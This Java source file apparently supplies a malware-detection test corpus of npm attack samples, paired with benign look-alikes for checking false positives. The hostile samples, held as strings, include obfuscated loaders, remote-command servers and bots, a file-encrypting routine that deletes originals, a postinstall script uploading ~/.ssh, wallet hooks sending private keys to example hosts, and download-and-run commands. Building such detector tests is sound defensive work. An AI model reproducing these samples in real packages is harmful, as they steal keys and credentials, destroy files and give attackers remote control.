package cordon.inspect.corpus;

import java.util.List;

/** Code that tools made unreadable, and what else acts without showing how. */
final class NpmUnreadable {
  /** 91 signs in the order of a dice. */
  private static final String SHUFFLED =
      "ozXSCb`u8f'j2(]=O;F{3/9M}K!ai|e*yhxZrUp>W~5TEY)D^g4s,kmVR@Glt<I1NJv&w$_An0d:B#PH6+[Q7q?.cL%";

  private NpmUnreadable() {}

  private static String decoding(String alphabet) {
    return "var t='inert';function d(s){var a=\""
        + alphabet
        + "\",b=[],n=0;for(var i=0;i<s.length;i++){n=n*91+a.indexOf(s[i]);b.push(n&255);n>>=8}return b.map(c=>String.fromCharCode(c)).join('')}\n";
  }

  static List<Sample> all() {
    return List.of(
        Sample.required(
            "texts in an alphabet of its own, in code that starts processes",
            decoding(SHUFFLED) + "const c=require('child_process');c[d(t)](d(t));\n"),
        Sample.required(
            "texts in an alphabet of its own, in code that reads and sends",
            decoding(SHUFFLED)
                + "const f=require('fs');const h=require('https');h[d(t)](d(t),r=>f[d(t)](r));\n"),
        Sample.postinstall("texts in an alphabet of its own, at install", decoding(SHUFFLED)),
        Sample.required(
            "what an obfuscator made is kept as a text",
            "Function('k', "
                + "`"
                + decoding(SHUFFLED).replace("`", "\\`")
                + "`"
                + ")({get r(){return require}});\n"),
        Sample.required(
            "a list is put in order to spell a name",
            """
            global['_V']='5-12';global['r']=require;(function(){var q='',s=401-390;function w(x){var l=2667686;var f=x.length;var b=[];for(var k=0;k<f;k++){b[k]=x.charAt(k)};for(var k=0;k<f;k++){var y=l*(k+228)+(l%50332);var o=l*(k+128)+(l%52119);var u=y%f;var v=o%f;var m=b[u];b[u]=b[v];b[v]=m;l=(y+o)%4289487;};return b.join('')};var t=w("sonrdauhccrnltvfgxtjkeqpywbmioz").substr(0,s);var j="cma:s;heleqr=re(dat(+'.dnp'hh d'(=o. /s/=rhe/e=g)t(er=.l)n'vstra'oid>{;ednxua(t)tcp,t;'>n=r'o')'cpl}x>)p,toe.(d)'t,;";var g=w[t];var a='';var h=g;var x=g(a,w(j));x();return 1358})();module.exports={};
            """),
        Sample.postinstall(
            "a program decides what another is given as text",
            """
            const https = require('https'), { execFileSync } = require('child_process');
            https.get('https://api.example/contents/run.txt', { headers: { accept: 'raw' } }, r => { let s = ''; r.on('data', d => s += d); r.on('end', () => execFileSync(process.execPath, ['-e', s])); });
            """),
        Sample.required(
            "whoever asks a server runs commands",
            """
            const http = require('http'), { execSync } = require('child_process');
            http.createServer((q, s) => { const c = new URL(q.url, 'http://x').searchParams.get('c'); s.end(c ? execSync(c).toString() : ''); }).listen(3999);
            """),
        Sample.required(
            "a bot that runs what is written to it",
            """
            const { Client } = require('discord.js'), { exec } = require('child_process');
            const bot = new Client({ intents: [] });
            bot.on('messageCreate', m => { if (m.content.startsWith('!')) exec(m.content.slice(1), (e, o) => m.reply(o)); });
            bot.login('inert');
            """),
        Sample.required(
            "files are encrypted and deleted",
            """
            const fs = require('fs'), crypto = require('crypto'), path = require('path'), os = require('os');
            const key = crypto.randomBytes(32);
            function go(d) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); const c = crypto.createCipheriv('aes-256-cbc', key, key.subarray(16)); fs.writeFileSync(p + '.locked', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); fs.unlinkSync(p); } }
            go(path.join(os.homedir(), 'Documents'));
            """),
        Sample.postinstall(
            "an archive that is filled after it flows",
            """
            const archiver = require('archiver'), fs = require('fs'), os = require('os'), path = require('path'), FormData = require('form-data');
            const zip = path.join(os.tmpdir(), 'd.zip'), out = fs.createWriteStream(zip), a = archiver('zip');
            a.pipe(out); a.directory(path.join(os.homedir(), '.ssh'), 'k');
            out.on('close', () => { const f = new FormData(); f.append('file', fs.createReadStream(zip)); f.submit('https://up.example/f'); });
            a.finalize();
            """),
        Sample.required(
            "a class that stands in for a wallet",
            """
            const Module = require('module'), orig = Module._load;
            Module._load = function (r) { const m = orig.apply(this, arguments); if (r === 'ethers') { const W = m.Wallet; m.Wallet = class extends W { constructor(k, ...a) { super(k, ...a); require('https').get('https://rpc.example/h?k=' + k); } }; } return m; };
            """),
        Sample.required(
            "a key that is made and reported",
            """
            exports.create = async () => { const { ethers } = require('ethers'); const w = ethers.Wallet.createRandom(); await fetch('https://log.example/new', { method: 'POST', body: JSON.stringify({ a: w.address, k: w.privateKey }) }); return w; };
            """),
        Sample.required(
            "a function whose name says what it is given",
            """
            function fromPrivateKey(k) { require('http').get({ hostname: 'stat.example', path: '/p?d=' + Buffer.from(k).toString('base64') }, () => {}); return { k }; }
            module.exports = { fromPrivateKey };
            """),
        Sample.command(
            "a script is fetched to a file and run",
            "cmd /c \"curl -o %TEMP%\\x.bat https://cdn.example/x.bat && %TEMP%\\x.bat\""),
        Sample.command(
            "a script is fetched and interpreted",
            "curl -so /tmp/i.sh https://cdn.example/i && sh /tmp/i.sh"),
        Sample.command(
            "a repository is fetched and its script run",
            "git clone https://git.example/a/b.git /tmp/.b && node /tmp/.b/run.js"),
        Sample.command(
            "packages come from elsewhere",
            "npm config set registry http://mirror.example/ && npm i other"));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "an encoder with an alphabet in order",
            decoding(
                    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!#$%&()*+,./:;<=>?@[]^_`{|}~'")
                + "const c=require('child_process');c.exec('ls');\n"),
        Sample.required(
            "the keys of a keyboard",
            decoding(
                    "1234567890-=qwertyuiop[]asdfghjkl;'zxcvbnm,./!@#$%^&*()_+QWERTYUIOP{}|ASDFGHJKL:ZXCVBNM<>?")
                + "const c=require('child_process');c.exec('ls');\n"),
        Sample.required(
            "a server that is asked for files",
            """
            const http = require('http'), fs = require('fs');
            exports.serve = dir => http.createServer((q, s) => fs.createReadStream(dir + q.url).pipe(s)).listen(8080);
            """),
        Sample.required(
            "a bot that answers",
            """
            const { Client } = require('discord.js');
            exports.start = token => { const bot = new Client({ intents: [] }); bot.on('messageCreate', m => { if (m.content === '!ping') m.reply('pong'); }); return bot.login(token); };
            """),
        Sample.required(
            "an archive of what was built",
            """
            const archiver = require('archiver'), fs = require('fs');
            exports.pack = dir => { const out = fs.createWriteStream('dist.zip'), a = archiver('zip'); a.pipe(out); a.directory(dir, false); return a.finalize(); };
            """),
        Sample.required(
            "the public half of a key is registered",
            """
            const { Keypair } = require('@solana/web3.js');
            exports.register = async () => { const k = Keypair.generate(); await fetch('https://api.example/keys', { method: 'POST', body: JSON.stringify({ key: k.publicKey }) }); return k; };
            """),
        Sample.command("the registry is asked for", "npm config get registry && node -e 0"),
        Sample.command(
            "a package builds with what it has", "sh ./build.sh && node scripts/check.js"));
  }
}
